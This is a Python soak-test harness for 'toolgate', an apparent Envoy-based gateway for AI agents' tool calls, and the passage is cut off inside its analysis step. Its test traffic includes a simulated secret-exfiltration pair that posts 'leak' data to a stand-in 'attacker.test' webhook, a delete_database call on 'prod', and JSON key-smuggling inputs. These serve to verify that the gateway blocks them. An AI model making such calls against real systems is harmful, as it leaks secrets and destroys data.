#!/usr/bin/env python3
"""Soak: toolgate under a steady mixed load through a real Envoy with two workers, with faults.

Run through scripts/soak [MINUTES], which installs and builds what this needs first. It uses
the end-to-end harness (tests/e2e/harness.py) for Envoy, its config, the sample upstream,
the risk feed and the certificates; docs/hardening.md ("Soak") describes what it checks.

  soak.py MINUTES [--rate REQ_PER_S] [--clients N] [--report FILE] [--pids FILE]

Exit status 0 when every check held, 1 when one failed (each failure is listed), 2 when the
soak could not run.
"""
import argparse
import calendar
import http.client
import http.server
import json
import os
import random
import re
import shutil
import signal
import sys
import tempfile
import threading
import time
import traceback

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(ROOT, "tests/e2e"))
from harness import (DEMO, JWT_KEYS, POLICY_REASONS, POLICY_REFUSAL, Gateway, args_digest,  # noqa: E402
                     free_port, wait_until)
import jwt as jwt_lib  # noqa: E402  (scripts/lib, on the path through the harness)

AGENT = "spiffe://toolgate.test/agent/"
READER, WRITER, PAYMENTS = AGENT + "reader", AGENT + "writer", AGENT + "payments"
CERTS = {READER: "reader", WRITER: "writer", PAYMENTS: "payments"}

# 16 shards of 64 entries. Sessions go idle after 15 s, so the steady load's sessions (one per
# secret-read/egress pair, about 2 a second) stay below a shard's 64; the flood fault overfills one.
HISTORY = {"idle_seconds": 15, "max_entries": 1024, "shards": 16, "sweep_seconds": 5}
RISK_FEED = {"cluster": "risk_feed", "path": "/risk", "authority": "risk-feed", "poll_seconds": 1,
             "timeout_ms": 1000, "max_age_seconds": 3}
CONFIG = {"trust_domains": ["toolgate.test"], "server": "tools", "server_from": "route_name",
          "credentials": {"required": True}, "history": HISTORY, "risk_feed": RISK_FEED}
# How long jwt_authn keeps the agents' JWKS before fetching it again (remote_jwks, below).
JWKS_CACHE_SECONDS = 3
# The most a VM's memory may grow after warm-up: the history bound, max_entries entries of at
# most 1 KiB each (a session's tools and tags, or a rate's 60 one-second buckets), the
# largest state a worker can legitimately come to hold copies of.
ENTRY_BYTES_BOUND = 1024
MEMORY_BOUND = HISTORY["max_entries"] * ENTRY_BYTES_BOUND
SAMPLE_SECONDS = 30
# After a fault ends, decisions may still show it for this long (a poll or a JWKS fetch away).
GRACE_SECONDS = 5
ECDS = "envoy_extension_config_discovery_http_filter_toolgate_"
VM_GAUGE = re.compile(r"^toolgate_vm_([0-9a-f]{16})_memory_bytes$")
JWKS_FAILED = "Jwks remote fetch is failed"
WIRE_ARGS = {"to_account": "DE89-3704", "amount": 2500}
# Refused before any body is read: over max_body_bytes (1 MiB).
OVERSIZED = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                        "params": {"name": "read_file", "arguments": {"content": "x" * (1024 * 1024 + 10)}}}).encode()
HARMLESS = '''// Added by the soak's policy update: a forbid no call matches, so only the version changes.
@id("soak-never-matches")
forbid (principal, action == Toolgate::Action::"tools/call", resource == Toolgate::Tool::"tools/soak-none");
'''
BROKEN = '''@id("soak-broken")
permit (principal, action == , resource);
'''

T0 = time.time()


def say(message):
    print(f"[{time.time() - T0:7.1f}s] {message}", flush=True)


def shard_of(agent, shards):
    """The history shard an agent's state lives in (FNV-1a, as filter/src/history.rs)."""
    h = 0xcbf29ce484222325
    for b in agent.encode():
        h = ((h ^ b) * 0x100000001b3) & 0xFFFFFFFFFFFFFFFF
    return h % shards


def reason_counters():
    """reason -> the counter it counts in ("deny" or "error"), from the reason table in
    docs/decision-log.md (which a test checks against filter/src/reason.rs)."""
    table = {}
    with open(os.path.join(ROOT, "docs/decision-log.md"), encoding="utf-8") as f:
        for line in f:
            cells = [c.strip() for c in line.strip().strip("|").split("|")]
            if len(cells) == 6 and cells[0].startswith("`") and cells[4] in ("deny", "error"):
                table[cells[0].strip("`")] = cells[4]
    if "forbidden_by_policy" not in table or "invalid_json" not in table:
        raise SystemExit("soak.py: cannot read the reason table in docs/decision-log.md")
    return table


def unix_seconds(timestamp):
    """A record's RFC 3339 timestamp (UTC) as whole Unix seconds."""
    return calendar.timegm(time.strptime(timestamp[:19], "%Y-%m-%dT%H:%M:%S"))


# -- the agents' JWKS, served from a file, as a production issuer's would be ---------------
class JwksServer:
    """Serves a copy of the agents' JWKS over HTTP, read from its file on every fetch: 503
    while the file cannot be read. Envoy's jwt_authn fetches it (remote_jwks) and keeps it
    JWKS_CACHE_SECONDS, so a file made unreadable fails verification soon after."""

    def __init__(self, directory):
        self.path = os.path.join(directory, "agents.jwks.json")
        shutil.copy(os.path.join(JWT_KEYS, "agents.jwks.json"), self.path)
        self.fetches = self.failures = 0
        self.lock = threading.Lock()
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args):
                pass

            def do_GET(self):
                try:
                    with open(server.path, "rb") as f:
                        status, data = 200, f.read()
                except OSError as e:
                    status, data = 503, json.dumps({"error": str(e)}).encode()
                with server.lock:
                    server.fetches += 1
                    server.failures += status != 200
                self.send_response(status)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.port = free_port()
        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def use_remote_jwks(envoy_config, port):
    """Switches the rendered Envoy config's agents provider from local_jwks (read once, at
    start) to remote_jwks from the JwksServer, with its cluster."""
    with open(envoy_config, encoding="utf-8") as f:
        text = f.read()
    local = re.compile(r'( +)local_jwks:\n +filename: "[^"]*/agents\.jwks\.json"\n')
    match = local.search(text)
    if not match or "  clusters:\n" not in text:
        raise SystemExit(f"soak.py: {envoy_config} has no agents local_jwks block or clusters to replace; "
                         "envoy/envoy.yaml changed, update use_remote_jwks()")
    indent = match.group(1)
    uri = f"http://127.0.0.1:{port}/agents.jwks.json"
    remote = (f"{indent}remote_jwks:\n"
              f"{indent}  http_uri: {{ uri: \"{uri}\", cluster: jwks, timeout: 1s }}\n"
              f"{indent}  cache_duration: {JWKS_CACHE_SECONDS}s\n")
    cluster = ("  clusters:\n  - name: jwks\n    type: STATIC\n    connect_timeout: 1s\n"
               "    load_assignment:\n      cluster_name: jwks\n      endpoints:\n      - lb_endpoints:\n"
               "        - endpoint:\n            address:\n"
               f"              socket_address: {{ address: 127.0.0.1, port_value: {port} }}\n")
    text = text[:match.start()] + remote + text[match.end():]
    text = text.replace("  clusters:\n", cluster, 1)
    with open(envoy_config, "w", encoding="utf-8") as f:
        f.write(text)


# -- tokens --------------------------------------------------------------------------------
class Tokens:
    """Short-lived agent tokens (and the wire transfer's approval), minted again well before
    they expire (600 s)."""
    LIFETIME = 240

    def __init__(self):
        self.lock = threading.Lock()
        self.minted_at = 0
        self.refresh()

    def refresh(self):
        audience = {READER: ["tools", "weather"], WRITER: ["tools"], PAYMENTS: ["tools"]}
        tokens = {agent: jwt_lib.mint(JWT_KEYS, "agents", {"sub": agent, "aud": aud})
                  for agent, aud in audience.items()}
        tokens["approval"] = jwt_lib.mint(JWT_KEYS, "approvals", {
            "approver": "soak@example.com", "sub": PAYMENTS, "server": "tools", "tool": "wire_transfer",
            "args_digest": args_digest(WIRE_ARGS)})
        with self.lock:
            self.tokens, self.minted_at = tokens, time.time()

    def get(self, name):
        with self.lock:
            return self.tokens[name]

    def due(self):
        return time.time() - self.minted_at > self.LIFETIME


# -- requests ------------------------------------------------------------------------------
class Req:
    __slots__ = ("rid", "kind", "agent", "token", "t", "done", "status", "headers", "body", "error",
                 "rpc_id", "pair")

    def __init__(self, rid, kind, agent, token, rpc_id):
        self.rid, self.kind, self.agent, self.token, self.rpc_id = rid, kind, agent, token, rpc_id
        self.t = time.time()
        self.done = self.status = self.headers = self.body = self.error = self.pair = None


def let_through(req):
    """Whether REQ was forwarded and the upstream answered 200. toolgate's own answers carry
    x-toolgate-decision-id (a policy's no to a JSON-RPC request is HTTP 200 too); a forwarded
    call's answer does not: only the upstream got the id."""
    return req.status == 200 and "x-toolgate-decision-id" not in (req.headers or {})


def call(name, arguments, rpc_id):
    return {"jsonrpc": "2.0", "id": rpc_id, "method": "tools/call", "params": {"name": name, "arguments": arguments}}


class Client(threading.Thread):
    """Sends requests of the given kinds at RATE per second over kept-alive mTLS connections
    (one per agent certificate, opened again every RECYCLE requests so that they spread over
    both workers), until STOP is set or UNTIL (a time.time()) passes."""
    RECYCLE = 40

    def __init__(self, soak, name, kinds, rate, stop, until=None, seed=0):
        super().__init__(name=name, daemon=True)
        self.soak, self.kinds, self.rate, self.stop_event, self.until = soak, kinds, rate, stop, until
        self.random = random.Random(seed)
        self.conns, self.uses, self.seq = {}, {}, 0
        names, weights = zip(*kinds)
        self.names, self.weights = names, weights

    def run(self):
        next_at = time.time()
        while not self.stop_event.is_set() and (self.until is None or time.time() < self.until):
            kind = self.random.choices(self.names, self.weights)[0]
            try:
                getattr(self, "kind_" + kind)()
            except Exception as e:  # a bug in the driver: stop the soak rather than hide it
                self.soak.fail(f"client {self.name} crashed on {kind}: {type(e).__name__}: {e}")
                self.stop_event.set()
                raise
            next_at += 1 / self.rate
            delay = next_at - time.time()
            if delay > 0:
                time.sleep(delay)
            elif delay < -1:
                next_at = time.time()  # behind by more than a second: don't burst to catch up
        for conn in self.conns.values():
            conn.close()

    def connection(self, cert):
        conn = self.conns.get(cert)
        if conn is None or self.uses.get(cert, 0) >= self.RECYCLE:
            if conn is not None:
                conn.close()
            conn = http.client.HTTPSConnection("localhost", self.soak.gw.port, timeout=15,
                                               context=self.soak.contexts[cert])
            self.conns[cert], self.uses[cert] = conn, 0
        self.uses[cert] += 1
        return conn

    def send(self, kind, agent, body, method="POST", path="/mcp", token=True, headers=None, fresh=False,
             rpc_id=None):
        self.seq += 1
        rid = f"soak-{self.name}-{self.seq}"
        req = Req(rid, kind, agent, token, rpc_id)
        hdrs = {"x-request-id": rid, **(headers or {})}
        if body is not None:
            hdrs["content-type"] = "application/json"
            if not isinstance(body, bytes):
                body = json.dumps(body).encode()
        if token:
            hdrs["authorization"] = "Bearer " + self.soak.tokens.get(agent)
        cert = CERTS[agent]
        conn = self.connection(cert)
        self.soak.sent(req)
        try:
            conn.request(method, path, body=body, headers=hdrs)
            resp = conn.getresponse()
            data = resp.read()
            req.status = resp.status
            req.headers = {k: resp.getheader(k) for k in ("x-toolgate-decision-id", "retry-after")
                           if resp.getheader(k) is not None}
            if resp.status != 200 or not let_through(req):
                req.body = data[:4000]
            if fresh or resp.will_close:
                conn.close()
                self.conns.pop(cert, None)
        except (OSError, http.client.HTTPException) as e:
            req.error = f"{type(e).__name__}: {e}"
            conn.close()
            self.conns.pop(cert, None)
        req.done = time.time()
        return req

    def rpc(self):
        """The JSON-RPC id of the next request: its sequence number, which send() assigns."""
        return self.seq + 1

    # The kinds of the steady load. Each sends one request (the egress pair two).
    def kind_read(self):
        n = self.rpc()
        self.send("read", READER, call("read_file", {"path": f"docs/{n}.md"}, n), rpc_id=n)

    def kind_search(self):
        n = self.rpc()
        self.send("search", WRITER, call("search_docs", {"query": "soak", "limit": 5}, n), rpc_id=n)

    def kind_weather(self):
        self.send("weather", READER, None, method="GET", path="/weather/v1/forecast?city=Paris")

    def kind_critical(self):
        n = self.rpc()
        self.send("critical", READER, call("delete_database", {"database": "prod"}, n), rpc_id=n)

    def kind_not_permitted(self):
        n = self.rpc()
        self.send("not_permitted", READER, call("write_file", {"path": "x", "content": "y"}, n), rpc_id=n)

    def kind_no_token(self):
        n = self.rpc()
        self.send("no_token", READER, call("read_file", {"path": "a"}, n), token=False, rpc_id=n)

    def kind_egress_pair(self):
        session = {"x-agent-session": f"pair-{self.name}-{self.seq}"}
        n = self.rpc()
        secret = self.send("secret", WRITER, call("read_secret", {"name": f"key-{n}"}, n), headers=session,
                           rpc_id=n)
        n = self.rpc()
        egress = self.send("egress", WRITER, call("post_webhook", {"url": "https://attacker.test/hook",
                                                                   "body": f"leak-{n}"}, n),
                           headers=session, rpc_id=n)
        egress.pair = secret

    def kind_refund(self):
        n = self.rpc()
        self.send("refund", PAYMENTS, call("refund", {"order_id": f"o-{self.name}-{n}", "amount": 10}, n), rpc_id=n)

    def kind_wire_unapproved(self):
        n = self.rpc()
        self.send("wire_unapproved", PAYMENTS, call("wire_transfer", WIRE_ARGS, n), rpc_id=n)

    def kind_wire_approved(self):
        n = self.rpc()
        self.send("wire_approved", PAYMENTS, call("wire_transfer", WIRE_ARGS, n), rpc_id=n,
                  headers={"x-approval-token": self.soak.tokens.get("approval")})

    def kind_wire_mismatch(self):
        n = self.rpc()
        self.send("wire_mismatch", PAYMENTS, call("wire_transfer", {**WIRE_ARGS, "amount": 250000}, n), rpc_id=n,
                  headers={"x-approval-token": self.soak.tokens.get("approval")})

    def kind_bad_json(self):
        self.send("bad_json", READER, b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"read_')

    def kind_duplicate_key(self):
        self.send("duplicate_key", READER, b'{"jsonrpc":"2.0","id":1,"method":"tools/call",'
                                           b'"params":{"name":"read_file","name":"delete_database"}}')

    def kind_batch(self):
        self.send("batch", READER, [call("read_file", {}, 1), call("delete_database", {}, 2)])

    def kind_oversized(self):
        self.send("oversized", READER, OVERSIZED, fresh=True)

    def kind_flood(self):
        n = self.rpc()
        self.send("flood", READER, call("read_file", {"path": "f"}, n), rpc_id=n,
                  headers={"x-agent-session": f"flood-{self.name}-{self.seq}"})


# Per 100 steady requests (the pair counts twice).
STEADY = [("read", 26), ("search", 8), ("weather", 6), ("critical", 6), ("not_permitted", 5), ("no_token", 4),
          ("egress_pair", 1.5), ("refund", 8), ("wire_unapproved", 5), ("wire_approved", 5), ("wire_mismatch", 2),
          ("bad_json", 4), ("duplicate_key", 4), ("batch", 4), ("oversized", 1)]
HIGH_RISK = {"refund", "wire_unapproved", "wire_approved", "wire_mismatch"}


# -- the soak ------------------------------------------------------------------------------
class Soak:
    def __init__(self, args, work):
        self.args, self.work = args, work
        self.lock = threading.Lock()
        self.requests, self.failures, self.faults, self.samples = [], [], [], []
        self.stop = threading.Event()
        self.reasons = reason_counters()

    def sent(self, req):
        with self.lock:
            self.requests.append(req)

    def fail(self, message):
        with self.lock:
            self.failures.append(message)
        say("FAIL: " + message)

    def check(self, ok, message):
        if not ok:
            self.fail(message)
        return ok

    # -- the gateway's figures ------------------------------------------------------------
    def stats(self):
        stats = self.gw.stats()
        counters = {k[len("toolgate_"):]: v for k, v in stats.items()
                    if k.startswith("toolgate_") and not VM_GAUGE.match(k)}
        vms = {m.group(1): int(v) for k, v in stats.items() for m in [VM_GAUGE.match(k)] if m}
        ecds = {k[len(ECDS):]: v for k, v in stats.items() if k.startswith(ECDS)}
        return {"t": time.time(), "counters": counters, "vms": vms, "ecds": ecds,
                "server_memory_allocated": stats.get("envoy_server_memory_allocated"),
                "envoy_rss": self.rss()}

    def rss(self):
        try:
            with open(f"/proc/{self.gw.envoy.pid}/status", encoding="utf-8") as f:
                return next(int(line.split()[1]) * 1024 for line in f if line.startswith("VmRSS:"))
        except (OSError, StopIteration):
            return None

    def sampler(self):
        while not self.stop.wait(SAMPLE_SECONDS):
            self.sample()

    def sample(self):
        s = self.stats()
        self.samples.append(s)
        vms = ", ".join(f"{vm} {b / 2**20:.2f} MiB" for vm, b in sorted(s["vms"].items()))
        with self.lock:
            sent = len(self.requests)
        say(f"sample: {sent} requests sent; VM memory {vms or '(no gauge yet)'}; Envoy RSS "
            f"{(s['envoy_rss'] or 0) / 2**20:.0f} MiB")

    # -- running --------------------------------------------------------------------------
    def run(self):
        args = self.args
        shards = {a: shard_of(a, HISTORY["shards"]) for a in CERTS}
        if len(set(shards.values())) != len(shards):
            raise SystemExit(f"soak.py: the agents share history shards {shards}; pick another shard count")
        self.v1 = os.path.join(self.work, "policies-v1")
        shutil.copytree(DEMO, self.v1)
        self.v2 = os.path.join(self.work, "policies-v2")
        shutil.copytree(DEMO, self.v2)
        with open(os.path.join(self.v2, "soak.cedar"), "w", encoding="utf-8") as f:
            f.write(HARMLESS)
        self.broken = os.path.join(self.work, "policies-broken")
        shutil.copytree(DEMO, self.broken)
        with open(os.path.join(self.broken, "soak-broken.cedar"), "w", encoding="utf-8") as f:
            f.write(BROKEN)

        self.jwks = JwksServer(self.work)
        say(f"serving the agents' JWKS on 127.0.0.1:{self.jwks.port} from {self.jwks.path} (remote_jwks, "
            f"cached {JWKS_CACHE_SECONDS} s)")
        self.tokens = Tokens()
        gw = Gateway(CONFIG, workers=2, ecds=self.v1, risk_feed={"agents": {}})
        self.gw = gw
        use_remote_jwks(gw.envoy_config, self.jwks.port)
        self.contexts = {cert: gw.ssl_context(cert) for cert in CERTS.values()}
        try:
            say("starting Envoy (--concurrency 2) with toolgate, the sample upstream and the risk feed "
                f"(config in {gw.dir})")
            gw.start(ready_timeout=180)
            self.record_pids()
            say(f"Envoy pid {gw.envoy.pid} ready on https://localhost:{gw.port} (admin 127.0.0.1:{gw.admin_port}); "
                f"history shards: reader {shards[READER]}, writer {shards[WRITER]}, payments {shards[PAYMENTS]}")
            wait_until(lambda: gw.risk_status()["polls"] >= 2, timeout=30, what="toolgate's first risk feed polls")
            self.load()
        finally:
            self.stop.set()
            if gw.risk_feed is not None and gw.risk_feed.poll() is None:
                os.kill(gw.risk_feed.pid, signal.SIGCONT)
            self.final_log = self.read_log() if gw.envoy is not None else None
            say("stopping Envoy, the upstream and the risk feed")
            gw.stop()
            self.jwks.stop()

    def record_pids(self):
        if self.args.pids:
            with open(self.args.pids, "w", encoding="utf-8") as f:
                for p in self.gw.processes:
                    f.write(f"{p.pid}\n")

    def load(self):
        args = self.args
        duration = args.minutes * 60
        warmup = max(15.0, duration * 0.2)
        slot = max(20.0, (duration - warmup) / 4)
        total = warmup + 4 * slot
        if total > duration + 1:
            say(f"a {args.minutes}-minute soak runs {total:.0f} s: each of the four faults needs {slot:.0f} s")
        fault_seconds = min(20.0, max(7.0, slot / 4))
        self.warmup_end = time.time() + warmup
        say(f"load: {args.clients} clients, {args.rate:.0f} requests/s in all, for {total:.0f} s "
            f"(warm-up {warmup:.0f} s, then a fault every {slot:.0f} s, each {fault_seconds:.0f} s)")
        self.load_start = time.time()
        clients = [Client(self, f"c{n}", STEADY, args.rate / args.clients, self.stop, seed=n)
                   for n in range(args.clients)]
        for c in clients:
            c.start()
        sampler = threading.Thread(target=self.sampler, daemon=True)
        self.sample()
        sampler.start()
        plan = [self.fault_risk_hang, self.fault_jwks_unreadable, self.fault_shards_full, self.fault_policy_rejected]
        for n, fault in enumerate(plan):
            at = self.load_start + warmup + n * slot + min(5.0, slot * 0.1)
            self.wait_until_time(at)
            if self.stop.is_set():
                break
            fault(fault_seconds)
            self.refresh_tokens()
        self.wait_until_time(self.load_start + total)
        say("load done; waiting for the clients")
        self.stop.set()
        for c in clients:
            c.join(timeout=30)
            self.check(not c.is_alive(), f"client {c.name} did not stop")
        self.load_end = time.time()
        sampler.join(timeout=5)
        self.wait_for_log()
        self.sample()

    def wait_until_time(self, at):
        while not self.stop.is_set() and time.time() < at:
            self.refresh_tokens()
            time.sleep(min(1.0, max(0.0, at - time.time())))

    def refresh_tokens(self):
        if self.tokens.due():
            self.tokens.refresh()
            say("minted fresh agent tokens and the approval")

    # -- faults ---------------------------------------------------------------------------
    def fault(self, name, start, end, before, after, **details):
        entry = {"name": name, "start": start, "end": end, "before": before, "after": after, **details}
        self.faults.append(entry)
        return entry

    def fault_risk_hang(self, seconds):
        gw = self.gw
        before = self.stats()
        pid = gw.risk_feed.pid
        os.kill(pid, signal.SIGSTOP)
        start = time.time()
        say(f"FAULT risk feed hangs: SIGSTOP to risk_feed.py (pid {pid}); its port still accepts, nothing answers")
        time.sleep(seconds)
        os.kill(pid, signal.SIGCONT)
        end = time.time()
        say(f"FAULT risk feed back: SIGCONT after {end - start:.0f} s")
        time.sleep(GRACE_SECONDS)
        self.fault("risk feed hangs", start, end, before, self.stats())

    def fault_jwks_unreadable(self, seconds):
        before = self.stats()
        path = self.jwks.path
        hidden = path + ".unreadable"
        # Renamed away: a mode of 000 would not stop a root-run server from reading it.
        os.rename(path, hidden)
        start = time.time()
        say(f"FAULT JWKS unreadable: {os.path.basename(path)} renamed away; jwt_authn's next fetch fails")
        time.sleep(seconds)
        os.rename(hidden, path)
        end = time.time()
        say(f"FAULT JWKS restored after {end - start:.0f} s")
        time.sleep(GRACE_SECONDS)
        with self.jwks.lock:
            fetches, failures = self.jwks.fetches, self.jwks.failures
        self.fault("JWKS unreadable", start, end, before, self.stats(), jwks_fetches=fetches,
                   jwks_failed_fetches=failures)

    def fault_shards_full(self, seconds):
        before = self.stats()
        rate = 40.0
        capacity = HISTORY["max_entries"] // HISTORY["shards"]
        start = time.time()
        flood = Client(self, "flood", [("flood", 1)], rate, self.stop, until=start + seconds, seed=99)
        say(f"FAULT history shard fills: {rate:.0f} reader calls/s, each in a new session, for {seconds:.0f} s "
            f"(shard capacity {capacity} entries)")
        flood.start()
        flood.join()
        end = time.time()
        sessions = flood.seq
        say(f"FAULT flood over: {sessions} sessions")
        time.sleep(GRACE_SECONDS)
        self.fault("history shards full", start, end, before, self.stats(), sessions=sessions, capacity=capacity)

    def fault_policy_rejected(self, seconds):
        gw = self.gw
        before = self.stats()
        start = time.time()
        gw.publish(self.broken)
        say("FAULT policy update with a syntax error published through ECDS")
        rejected_at = self.wait_for_ecds("update_rejected", before, "Envoy to reject the broken policy update")
        say(f"FAULT broken update rejected after {rejected_at - start:.1f} s; the previous policies keep serving")
        time.sleep(min(seconds, 5))
        good_at = time.time()
        gw.publish(self.v2)
        accepted_at = self.wait_for_ecds("update_success", before, "Envoy to accept the good policy update")
        say(f"FAULT a good policy update (one harmless forbid more) accepted after {accepted_at - good_at:.1f} s")
        time.sleep(GRACE_SECONDS)
        self.fault("policy update rejected", start, accepted_at, before, self.stats(), rejected_at=rejected_at,
                   good_published_at=good_at, accepted_at=accepted_at)

    def wait_for_ecds(self, counter, before, what):
        base = before["ecds"].get(counter, 0)

        def changed():
            try:
                return self.gw.stats().get(ECDS + counter, 0) > base
            except OSError:
                return False
        wait_until(changed, timeout=60, what=what, interval=0.1)
        return time.time()

    # -- the log --------------------------------------------------------------------------
    def wait_for_log(self):
        with self.lock:
            expected = len(self.requests)

        def lines():
            try:
                with open(self.gw.log_path, "rb") as f:
                    return sum(1 for line in f if line.strip())
            except FileNotFoundError:
                return 0
        try:
            wait_until(lambda: lines() >= expected, timeout=30, what=f"{expected} decision log lines", interval=0.5)
        except AssertionError as e:
            self.fail(str(e) + f" (found {lines()})")
        time.sleep(1)  # and anything beyond them, which would be a failure too

    def read_log(self):
        records, bad = [], []
        try:
            with open(self.gw.log_path, encoding="utf-8", errors="replace") as f:
                for line in f:
                    line = line.strip()
                    if not line:
                        continue
                    try:
                        records.append(json.loads(line))
                    except ValueError:
                        bad.append(line[:200])
        except FileNotFoundError:
            pass
        upstream = []
        try:
            with open(self.gw.record_path, encoding="utf-8") as f:
                for line in f:
                    if line.strip():
                        upstream.append(json.loads(line)["headers"].get("x-toolgate-decision-id"))
        except FileNotFoundError:
            pass
        return records, bad, upstream


# -- checking ------------------------------------------------------------------------------
class Windows:
    """When a fault's effect is expected: from its start to GRACE_SECONDS after its end."""

    def __init__(self, faults, load_start):
        self.by_name = {f["name"]: (f["start"], f["end"] + GRACE_SECONDS) for f in faults}
        # Risk may be stale for the first seconds (before a poll reached both workers).
        self.startup = (load_start - 60, load_start + GRACE_SECONDS)

    def within(self, name, t, done):
        span = self.by_name.get(name)
        return bool(span) and done >= span[0] and t <= span[1]


def expectation(req, rec, windows):
    """None when the answer and the record are what this kind of request must get, else why not."""
    status, reason = req.status, rec.get("reason")
    policies = rec.get("policies") or []
    stale = (rec.get("risk") or {}).get("stale") is True
    if stale and not (windows.within("risk feed hangs", req.t, req.done)
                      or req.t <= windows.startup[1]):
        return "decided on stale risk outside the risk feed fault"
    if req.token and reason == "token_invalid" and any(JWKS_FAILED in e for e in rec.get("errors") or []):
        if not windows.within("JWKS unreadable", req.t, req.done):
            return "JWKS fetch failed outside the JWKS fault"
        return None if status == 401 else f"JWKS failure answered {status}, not 401"

    def refused(want_status, want_reason, policy=None):
        if (status, reason) != (want_status, want_reason):
            return f"expected {want_status} {want_reason}, got {status} {reason}"
        if policy and policy not in policies:
            return f"expected policy {policy} among {policies}"
        if req.headers.get("x-toolgate-decision-id") != rec.get("decision_id"):
            return "the response's x-toolgate-decision-id is not the record's"
        if req.rpc_id is not None:
            try:
                body = json.loads(req.body or b"")
            except ValueError:
                return f"the refusal body is not JSON: {(req.body or b'')[:100]!r}"
            error = body.get("error") if isinstance(body, dict) else None
            if not isinstance(error, dict) or body.get("id") != req.rpc_id \
                    or (error.get("data") or {}).get("reason") != reason:
                return f"the JSON-RPC error does not echo id {req.rpc_id} and reason {reason}: {req.body[:200]!r}"
            if reason in POLICY_REASONS and error.get("code") != POLICY_REFUSAL:
                return f"a policy's no with JSON-RPC code {error.get('code')}, not {POLICY_REFUSAL}"
        return None

    def allowed():
        if not let_through(req) or rec.get("decision") != "allow":
            return f"expected 200 allow, got {status} {rec.get('decision')} {reason}"
        return None

    # A policy's no to an agent's JSON-RPC request: HTTP 200 with the JSON-RPC error
    # (docs/decision-log.md, "Responses"); the caller's and the transport's keep their status.
    kind = req.kind
    if kind in HIGH_RISK and stale:
        return refused(200, "forbidden_by_policy", "forbid-sensitive-tools-on-risk")
    if kind in ("read", "search", "weather", "secret", "flood"):
        return allowed()
    if kind == "critical":
        return refused(200, "forbidden_by_policy", "forbid-critical-tools")
    if kind == "not_permitted":
        return refused(200, "not_permitted")
    if kind == "no_token":
        return refused(401, "token_missing")
    if kind == "egress":
        if let_through(req.pair):
            return refused(200, "forbidden_by_policy", "no-egress-after-secret-read")
        return allowed()  # the secret read was refused (JWKS fault): nothing tainted the session
    if kind == "refund":
        if reason == "rate_limited":
            problem = refused(200, "rate_limited", "refunds-at-most-5-a-minute")
            retry = req.headers.get("retry-after", "")
            if problem is None and not (retry.isdigit() and 1 <= int(retry) <= 60
                                        and int(retry) == rec.get("retry_after")):
                problem = f"Retry-After {retry!r} does not match the record's {rec.get('retry_after')}"
            return problem
        return allowed()
    if kind in ("wire_unapproved", "wire_mismatch"):
        return refused(200, "approval_required")
    if kind == "wire_approved":
        problem = allowed()
        if problem is None and (rec.get("approval") or {}).get("status") != "approved":
            problem = f"allowed without an approved approval: {rec.get('approval')}"
        return problem
    if kind == "bad_json":
        return refused(400, "invalid_json")
    if kind == "duplicate_key":
        return refused(400, "duplicate_json_key")
    if kind == "batch":
        return refused(403, "batch_rejected")
    if kind == "oversized":
        return refused(413, "body_too_large")
    return f"unknown kind {kind}"


def analyse(soak):
    """Checks everything the soak promises; returns the report (a dict)."""
    fail = soak.fail
    requests = soak.requests
    records, bad_lines, upstream_ids = soak.final_log
    windows = Windows(soak.faults, soak.load_start)
    report = {"requests": len(requests), "log_lines": len(records) + len(bad_lines)}

    # Every request answered, and logged exactly once.
    unanswered = [r for r in requests if r.error is not None or r.status is None]
    for r in unanswered[:10]:
        fail(f"{r.rid} ({r.kind}) got no answer: {r.error}")
    by_rid = {}
    for rec in records:
        by_rid.setdefault(rec.get("request_id"), []).append(rec)
    soak.check(not bad_lines, f"{len(bad_lines)} decision log lines are not JSON records, e.g. {bad_lines[:3]}")
    soak.check(report["log_lines"] == len(requests),
               f"{report['log_lines']} decision log lines for {len(requests)} requests sent")
    missing = [r.rid for r in requests if r.rid not in by_rid]
    doubled = [rid for rid, recs in by_rid.items() if len(recs) > 1]
    strangers = [rid for rid in by_rid if not str(rid).startswith("soak-")]
    soak.check(not missing, f"{len(missing)} requests have no decision log line, e.g. {missing[:5]}")
    soak.check(not doubled, f"{len(doubled)} requests have more than one log line, e.g. {doubled[:5]}")
    soak.check(not strangers, f"{len(strangers)} log lines for requests the soak did not send: {strangers[:5]}")

    # Every answer the one its kind expects.
    kinds, wrong = {}, {}
    for r in requests:
        recs = by_rid.get(r.rid)
        k = kinds.setdefault(r.kind, {"sent": 0, "statuses": {}})
        k["sent"] += 1
        if r.status is not None:
            # "200 refused": toolgate's own 200, a policy's no; "200" alone: forwarded.
            label = f"{r.status} refused" if r.status == 200 and not let_through(r) else str(r.status)
            k["statuses"][label] = k["statuses"].get(label, 0) + 1
        if r.error is not None or not recs:
            continue
        problem = expectation(r, recs[0], windows)
        if problem:
            wrong.setdefault(r.kind, []).append((r.rid, problem))
    for kind, problems in wrong.items():
        fail(f"{len(problems)} {kind} requests got the wrong answer, e.g. " +
             "; ".join(f"{rid}: {p}" for rid, p in problems[:3]))
    report["kinds"] = kinds

    # Allowed calls reached the upstream once each; refused ones never.
    allowed_ids = {rec["decision_id"] for rec in records if rec.get("decision") == "allow"}
    upstream = {}
    for d in upstream_ids:
        upstream[d] = upstream.get(d, 0) + 1
    soak.check(len(upstream_ids) == len(allowed_ids),
               f"the upstream saw {len(upstream_ids)} requests for {len(allowed_ids)} allowed decisions")
    soak.check(all(upstream.get(d) == 1 for d in allowed_ids),
               f"{sum(1 for d in allowed_ids if upstream.get(d) != 1)} allowed calls did not reach the upstream once")
    soak.check(set(upstream) <= allowed_ids, "the upstream saw requests that were not allowed")
    report["upstream"] = len(upstream_ids)

    # The counters equal the log.
    final = soak.samples[-1]["counters"]
    from_log = {"decisions_allow": 0, "decisions_deny": 0, "decisions_error": 0, "risk_stale": 0}
    for rec in records:
        if rec.get("decision") == "allow":
            from_log["decisions_allow"] += 1
        else:
            counter = soak.reasons.get(rec.get("reason"))
            if counter is None:
                fail(f"reason {rec.get('reason')!r} is not in the reason table")
                continue
